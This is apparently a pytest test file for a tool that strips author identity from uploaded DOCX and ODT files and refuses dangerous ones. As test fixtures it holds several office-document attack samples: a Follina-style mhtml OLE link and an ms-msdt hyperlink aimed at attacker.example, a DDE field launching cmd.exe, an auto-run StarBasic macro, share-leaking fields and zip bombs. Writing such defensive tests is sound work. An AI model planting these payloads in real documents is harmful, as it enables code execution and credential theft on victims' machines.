"""Hand-built hostile office files, for what a real producer will not write: each is rebuilt clean or refused."""

from __future__ import annotations

import base64
import io
import random
import struct

import docx
import pytest
from lxml import etree
from PIL import Image

from assessment.anonymity import strip_identity
from assessment.errors import UploadRejected
from assessment.stripping import package as office_package
from tests.support.hostile_office import (
    W,
    docx_with_embedded_document,
    docx_with_links,
    hostile_docx,
    hostile_odt,
    odt_with_objects_and_links,
    ole_package_with_program,
    parts,
    png,
    relationship,
    rezip,
    traces,
)
from tests.support.office_corpus import LOGIN, NAME, photo

# --- DOCX: what is left behind ------------------------------------------------------------------------------------


def test_the_hostile_docx_really_names_its_author():
    data = hostile_docx(settings=f'<w:docVars><w:docVar w:name="student" w:val="{NAME}"/></w:docVars>')
    named = {name for name, _ in traces(data)}
    assert {"customXml/item1.xml", "docProps/thumbnail.jpeg", "word/settings.xml"} <= named


def test_custom_xml_doc_variables_thumbnail_and_web_settings_are_left_behind():
    data = hostile_docx(settings=f'<w:docVars><w:docVar w:name="student" w:val="{NAME}"/></w:docVars>')
    stripped = parts(strip_identity(data, "docx"))
    assert not [name for name in stripped if name.startswith(("customXml/", "docProps/thumbnail"))]
    assert "word/webSettings.xml" not in stripped
    assert b"docVar" not in stripped["word/settings.xml"]
    assert traces(strip_identity(data, "docx")) == []


def test_an_embedded_document_with_its_own_properties_is_left_behind_and_its_object_unlinked():
    data = docx_with_embedded_document()
    stripped = strip_identity(data, "docx")
    assert not [name for name in parts(stripped) if "embeddings" in name]
    assert traces(stripped) == []
    body = parts(stripped)["word/document.xml"]
    assert b"OLEObject" not in body and b"imagedata" in body  # the object's picture still shows
    docx.Document(io.BytesIO(stripped))


def test_links_that_would_reach_a_server_on_opening_go_and_web_hyperlinks_stay():
    data = docx_with_links()
    stripped = strip_identity(data, "docx")
    assert traces(stripped) == []
    all_bytes = b"".join(parts(stripped).values())
    assert b"tracker.example.edu" not in all_bytes and b"templates.example.edu" not in all_bytes
    document = docx.Document(io.BytesIO(stripped))
    assert [rel.target_ref for rel in document.part.rels.values() if rel.is_external] == ["https://example.org/source"]
    text = "".join(node.text or "" for node in etree.fromstring(parts(stripped)["word/document.xml"]).iter(f"{{{W}}}t"))
    assert "notes on a share" in text and "notes by UNC" in text and "web source" in text


def test_pictures_in_a_docx_are_drawn_again_without_their_records_and_a_tiff_becomes_a_png():
    tiff = io.BytesIO()
    Image.new("RGB", (50, 20), (0, 128, 0)).save(tiff, "TIFF", description=f"scanned by {NAME}")
    data = hostile_docx(
        extra={"word/media/photo.jpeg": photo(), "word/media/scan.tiff": tiff.getvalue(),
               "word/media/drawing.emf": b"\x01\x00\x00\x00" + NAME.encode() * 10},
        rels=relationship("rId70", "image", "media/photo.jpeg") + relationship("rId71", "image", "media/scan.tiff")
        + relationship("rId72", "image", "media/drawing.emf"),
        body='<w:p><w:r><w:drawing><a:blip r:embed="rId70"/></w:drawing></w:r><w:r><w:drawing><a:blip r:embed="rId71"/>'
             '</w:drawing></w:r><w:r><w:drawing><a:blip r:embed="rId72"/></w:drawing></w:r></w:p>',
    )
    stripped = strip_identity(data, "docx")
    files = parts(stripped)
    assert traces(stripped) == []
    assert sorted(name for name in files if name.startswith("word/media/")) == ["word/media/photo.jpeg",
                                                                                 "word/media/scan.png"]
    with Image.open(io.BytesIO(files["word/media/photo.jpeg"])) as picture:
        assert picture.size == (320, 240) and not picture.getexif()
    assert b'Target="media/scan.png"' in files["word/_rels/document.xml.rels"]
    assert b'Extension="png" ContentType="image/png"' in files["[Content_Types].xml"]
    assert b'r:embed="rId72"' not in files["word/document.xml"]  # the vector drawing is gone, not dangling


def test_the_rebuilt_docx_lists_exactly_the_parts_it_holds():
    stripped = parts(strip_identity(hostile_docx(), "docx"))
    types = etree.fromstring(stripped["[Content_Types].xml"])
    overrides = {element.get("PartName").lstrip("/") for element in types if element.get("PartName")}
    defaults = {element.get("Extension") for element in types if element.get("Extension")}
    assert overrides <= set(stripped)
    for name in stripped:
        assert name in overrides or name.rpartition(".")[2] in defaults, name
    for name, content in stripped.items():
        if name.endswith(".rels"):
            source = name.replace("_rels/", "").removesuffix(".rels")
            for rel in etree.fromstring(content):
                if rel.get("TargetMode") != "External":
                    target = office_package.resolve(source, rel.get("Target"))
                    assert target in stripped, (name, rel.get("Target"))


def test_editing_session_ids_and_document_ids_are_left_behind():
    stripped = parts(strip_identity(hostile_docx(settings='<w:rsids><w:rsidRoot w:val="00FC693F"/></w:rsids>'), "docx"))
    assert b"rsid" not in stripped["word/document.xml"] and b"rsid" not in stripped["word/settings.xml"]


def test_fields_that_show_the_author_from_their_profile_show_a_neutral_name_and_xml_comments_go():
    body = (f'<!-- saved by {NAME} --><w:p><w:fldSimple w:instr=" AUTHOR "><w:r><w:t>{NAME}</w:t></w:r></w:fldSimple>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> USER</w:instrText></w:r>'
            '<w:r><w:instrText>NAME \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>Alice</w:t></w:r><w:r><w:t> Smith</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:t xml:space="preserve"> wrote this; </w:t></w:r>'
            '<w:fldSimple w:instr=" DATE "><w:r><w:t>1 March 2026</w:t></w:r></w:fldSimple></w:p>')
    stripped = strip_identity(hostile_docx(body=body), "docx")
    assert traces(stripped) == []
    text = "".join(node.text or "" for node in etree.fromstring(parts(stripped)["word/document.xml"]).iter(f"{{{W}}}t"))
    assert "Anonymous" in text and "Anonymous wrote this; 1 March 2026" in text


@pytest.mark.parametrize("code", [
    'INCLUDEPICTURE "http://tracker.example/pixel.png" \\* MERGEFORMATINET',  # a picture pasted from a web page
    'INCLUDEPICTURE "\\\\alice-pc\\share\\photo.jpg" \\d',  # a Windows share: the reviewer's login is offered
    'INCLUDETEXT "C:\\Users\\alice.smith\\notes.docx"',
    'LINK Excel.Sheet.12 "https://tracker.example/data.xlsx" "Sheet1!R1C1:R4C2" \\a \\p',
    'HYPERLINK "file://alice-pc/share/draft.docx"',
])
def test_fields_that_fetch_from_outside_the_file_are_unlinked_keeping_what_they_show(code):
    # Updating such a field (Word does on open or print for some) makes the reviewer's computer fetch the target.
    body = ('<w:p><w:r><w:t xml:space="preserve">Before </w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown result</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            f'<w:fldSimple w:instr=" {code.replace(chr(34), "&quot;")} "><w:r><w:t> and simple</w:t></w:r></w:fldSimple>'
            '<w:r><w:t xml:space="preserve"> after.</w:t></w:r></w:p>')
    document = parts(strip_identity(hostile_docx(body=body), "docx"))["word/document.xml"]
    root = etree.fromstring(document)
    for target in (b"tracker.example", b"alice-pc", b"alice.smith"):
        assert target not in document
    assert not list(root.iter(f"{{{W}}}instrText")) and not list(root.iter(f"{{{W}}}fldSimple"))
    text = "".join(node.text or "" for node in root.iter(f"{{{W}}}t"))
    assert text.startswith("Before shown result and simple after.")


def test_fields_computed_inside_the_file_stay_fields():
    body = ('<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://example.org/source" '
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>a source</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    root = etree.fromstring(parts(strip_identity(hostile_docx(body=body), "docx"))["word/document.xml"])
    assert [node.get(f"{{{W}}}instr") for node in root.iter(f"{{{W}}}fldSimple")] == [" PAGE "]
    assert "https://example.org/source" in "".join(node.text or "" for node in root.iter(f"{{{W}}}instrText"))


def test_a_cover_page_bound_to_the_author_property_shows_a_neutral_name():
    body = ('<w:sdt><w:sdtPr><w:alias w:val="Author"/><w:dataBinding w:prefixMappings="xmlns:ns0=\'http://purl.org/dc/'
            'elements/1.1/\' xmlns:ns1=\'http://schemas.openxmlformats.org/package/2006/metadata/core-properties\'" '
            'w:xpath="/ns1:coreProperties[1]/ns0:creator[1]" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/>'
            '</w:sdtPr><w:sdtContent><w:p><w:r><w:t>Alice</w:t></w:r><w:r><w:t xml:space="preserve"> Smith</w:t></w:r>'
            '</w:p></w:sdtContent></w:sdt><w:sdt><w:sdtPr><w:alias w:val="Title"/></w:sdtPr><w:sdtContent><w:p><w:r>'
            '<w:t>On peer review</w:t></w:r></w:p></w:sdtContent></w:sdt>')
    stripped = strip_identity(hostile_docx(body=body), "docx")
    assert traces(stripped) == []
    text = [node.text or "" for node in etree.fromstring(parts(stripped)["word/document.xml"]).iter(f"{{{W}}}t")]
    assert text[:3] == ["Anonymous", "", "On peer review"]


# --- DOCX: what is refused ----------------------------------------------------------------------------------------


def test_a_docx_with_an_embedded_ole_package_holding_a_program_is_refused_with_what_to_do():
    data = hostile_docx(extra={"word/embeddings/oleObject1.bin": ole_package_with_program()},
                        rels=relationship("rId60", "oleObject", "embeddings/oleObject1.bin"),
                        body='<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId60"/>'
                             "</w:object></w:r></w:p>")
    with pytest.raises(UploadRejected, match=r"embedded object or program.*paste it as a picture"):
        strip_identity(data, "docx")


def test_a_docx_with_an_ole_binary_that_nothing_points_at_is_refused_too():
    with pytest.raises(UploadRejected, match="embedded object or program"):
        strip_identity(hostile_docx(extra={"word/embeddings/oleObject1.bin": ole_package_with_program()}), "docx")


@pytest.mark.parametrize("target", [
    "mhtml:http://attacker.example/page.html!x-usc:http://attacker.example/page.html",  # Follina
    "http://attacker.example/object.html",
])
def test_a_docx_with_an_external_ole_object_link_is_refused_with_what_to_do(target):
    data = hostile_docx(rels=relationship("rId61", "oleObject", target, external=True),
                        body='<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId61" '
                             'UpdateMode="OnCall"/></w:object></w:r></w:p>')
    with pytest.raises(UploadRejected, match=r"links to an object or program outside the file.*Break Link"):
        strip_identity(data, "docx")


def test_a_docx_with_a_hyperlink_to_a_windows_program_scheme_is_refused():
    data = hostile_docx(rels=relationship("rId62", "hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", True))
    with pytest.raises(UploadRejected, match="links to an object or program outside the file"):
        strip_identity(data, "docx")


def test_a_docx_with_a_dde_field_is_refused():
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    with pytest.raises(UploadRejected, match="run programs"):
        strip_identity(hostile_docx(body=body), "docx")


def test_a_docx_with_macros_is_refused_even_when_stripped_directly():
    with pytest.raises(UploadRejected, match="contains macros"):
        strip_identity(hostile_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}), "docx")


# --- limits -------------------------------------------------------------------------------------------------------


def test_a_part_that_inflates_far_beyond_its_compressed_size_is_refused():
    data = hostile_docx(extra={"word/media/zeros.png": b"\x00" * (5 * 1024 * 1024)})
    assert len(data) < 100_000
    with pytest.raises(UploadRejected, match="unpacks to far more data"):
        strip_identity(data, "docx")


def test_a_docx_below_the_ratio_and_size_limits_is_accepted():
    # A long essay of ordinary XML compresses well but far from a bomb's ratio: it passes.
    paragraph = "<w:p><w:r><w:t>Peer review is a conversation about the work, paragraph {}.</w:t></w:r></w:p>"
    body = "".join(paragraph.format(number) for number in range(40_000))
    assert len(body) > office_package.RATIO_FROM_BYTES
    stripped = strip_identity(hostile_docx(body=body), "docx")
    assert b"paragraph 39999." in parts(stripped)["word/document.xml"]


def test_a_zip_header_that_understates_a_part_is_not_believed():
    data = bytearray(rezip({"word/document.xml": f'<w:document xmlns:w="{W}"><w:body>'.encode()
                                                 + b"<w:p/>" * 200_000 + b"</w:body></w:document>"}))
    # Claim the part unpacks to 1 KB in both the local header and the central directory.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        position = data.find(signature)
        data[position + offset:position + offset + 4] = struct.pack("<I", 1024)
    with pytest.raises(UploadRejected):
        strip_identity(bytes(data), "docx")


def test_a_package_with_too_many_parts_is_refused_before_any_is_read(monkeypatch):
    monkeypatch.setattr(office_package, "MAX_PARTS", 20)
    files = {f"word/media/{number}.png": b"" for number in range(21)}
    files["word/document.xml"] = f'<w:document xmlns:w="{W}"/>'.encode()
    with pytest.raises(UploadRejected, match="could not be read"):
        strip_identity(rezip(files), "docx")


# --- ODT ----------------------------------------------------------------------------------------------------------

def test_an_odt_loses_its_template_printer_thumbnail_embedded_object_and_linked_picture():
    data = odt_with_objects_and_links()
    assert {name for name, _ in traces(data)} >= {"meta.xml", "settings.xml", "Object 1/meta.xml", "Pictures/photo.jpg"}
    stripped = strip_identity(data, "odt")
    files = parts(stripped)
    assert traces(stripped) == []
    assert sorted(files) == ["META-INF/manifest.xml", "Pictures/photo.jpg", "content.xml", "meta.xml", "mimetype",
                             "settings.xml"]
    assert b"tracker.example.edu" not in files["content.xml"] and b"Object 1" not in files["content.xml"]
    assert b"<text:author-name>Anonymous</text:author-name>" in files["content.xml"]
    assert b"TabsRelativeToIndent" in files["settings.xml"] and b"Printer" not in files["settings.xml"]
    manifest = etree.fromstring(files["META-INF/manifest.xml"])
    listed = {entry.get("{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}full-path") for entry in manifest}
    assert listed == {"/", *(name for name in files if name not in ("mimetype", "META-INF/manifest.xml"))}
    with Image.open(io.BytesIO(files["Pictures/photo.jpg"])) as picture:
        assert picture.size == (320, 240) and not picture.getexif()


def test_an_odt_keeps_web_links_and_drops_links_to_the_authors_disk_keeping_their_words():
    body = ('<text:p><text:a xlink:href="https://example.org/source">web source</text:a> '
            f'<text:a xlink:href="../../../home/{LOGIN}/notes.odt">my notes</text:a> '
            f'<text:a xlink:href="file://fileserver.example.edu/{LOGIN}/data.ods">my data</text:a></text:p>'
            '<text:p><draw:a xlink:href="https://example.org/figure"><draw:frame><draw:image xlink:href="Pictures/a.png"/>'
            f'</draw:frame></draw:a><draw:a xlink:href="file:///C:/Users/{LOGIN}/big.png"><draw:frame>'
            '<draw:image xlink:href="Pictures/a.png"/></draw:frame></draw:a></text:p>')
    stripped = strip_identity(hostile_odt(body=body, extra={"Pictures/a.png": png()}), "odt")
    assert traces(stripped) == []
    content = etree.fromstring(parts(stripped)["content.xml"])
    links = [element.get("{http://www.w3.org/1999/xlink}href") for element in content.iter()
             if etree.QName(element).localname == "a"]
    assert links == ["https://example.org/source", "https://example.org/figure"]
    assert "".join(content.itertext()).count("my notes") == 1 and "my data" in "".join(content.itertext())
    assert len([element for element in content.iter() if etree.QName(element).localname == "image"]) == 2


def test_a_picture_written_into_the_odt_xml_itself_is_drawn_again_too():
    body = (f'<text:p><draw:frame><draw:image><office:binary-data>{base64.b64encode(photo()).decode()}'
            '</office:binary-data></draw:image></draw:frame><draw:frame><draw:image><office:binary-data>'
            f'{base64.b64encode(b"SVM1" + NAME.encode()).decode()}</office:binary-data></draw:image></draw:frame></text:p>')
    stripped = strip_identity(hostile_odt(body=body), "odt")
    content = etree.fromstring(parts(stripped)["content.xml"])
    (picture,) = [element.text for element in content.iter("{urn:oasis:names:tc:opendocument:xmlns:office:1.0}binary-data")]
    with Image.open(io.BytesIO(base64.b64decode(picture))) as image:
        assert image.size == (320, 240) and not image.getexif() and "comment" not in image.info


def test_an_odt_with_a_starbasic_macro_is_refused_with_what_to_do():
    data = hostile_odt(extra={
        "Basic/script-lc.xml": b"<library:libraries/>",
        "Basic/Standard/Module1.xml":
            b'<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
    })
    with pytest.raises(UploadRejected, match=r"macros or scripts.*Organize Macros"):
        strip_identity(data, "odt")


def test_an_odt_with_a_script_bound_to_opening_the_document_is_refused():
    scripts = ('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
               '&amp;location=document"/></office:event-listeners></office:scripts>')
    with pytest.raises(UploadRejected, match="macros or scripts"):
        strip_identity(hostile_odt(scripts=scripts), "odt")


def test_an_odt_with_a_hyperlink_that_runs_a_macro_is_refused():
    body = '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">click</text:a></text:p>'
    with pytest.raises(UploadRejected, match="macros or scripts"):
        strip_identity(hostile_odt(body=body), "odt")


def test_an_odt_whose_parts_inflate_like_a_bomb_is_refused():
    data = hostile_odt(extra={"Pictures/zeros.png": b"\x00" * (5 * 1024 * 1024)})
    with pytest.raises(UploadRejected, match="unpacks to far more data"):
        strip_identity(data, "odt")


# --- damaged files ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_damaged_office_file_is_stripped_or_refused_never_anything_else(kind):
    # Flip bytes all over a real package (headers, compressed data, directory): each copy is either rebuilt or
    # refused with UploadRejected, never an unexpected error.
    original = hostile_docx() if kind == "docx" else hostile_odt(extra={"Pictures/photo.jpg": photo()})
    generator = random.Random(14)
    outcomes = set()
    for _ in range(150):
        damaged = bytearray(original)
        for _ in range(generator.randint(1, 8)):
            damaged[generator.randrange(len(damaged))] = generator.randrange(256)
        try:
            strip_identity(bytes(damaged), kind)
            outcomes.add("stripped")
        except UploadRejected:
            outcomes.add("refused")
    assert outcomes == {"stripped", "refused"}
